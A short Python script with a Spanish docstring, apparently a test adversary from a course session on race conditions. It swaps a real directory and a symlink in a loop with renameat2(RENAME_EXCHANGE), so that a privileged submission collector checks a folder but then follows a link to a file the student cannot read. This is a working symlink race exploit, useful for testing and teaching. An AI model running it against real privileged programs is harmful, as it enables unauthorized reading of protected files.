"""intercambia.py — el proceso de un estudiante que corre mientras se recoge su entrega (un
adversario de la sesión 30): cambia sin parar, con renameat2(RENAME_EXCHANGE), los nombres
CARPETA/x (una carpeta de verdad) y CARPETA/y (un enlace a algo que el estudiante no puede
leer), para que quien recoge la entrega liste x como carpeta y, al abrir x/ARCHIVO por su
ruta entera, siga el enlace. Para cuando aparece CARPETA/../parar e imprime cuántas veces
cambió los nombres.

    python3 intercambia.py CARPETA
"""
import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
RENAME_EXCHANGE = 2
os.chdir(sys.argv[1])
n = 0
while not os.path.exists("../parar"):
    for _ in range(200):
        if libc.renameat2(AT_FDCWD, b"x", AT_FDCWD, b"y", RENAME_EXCHANGE) == 0:
            n += 1
print(n)
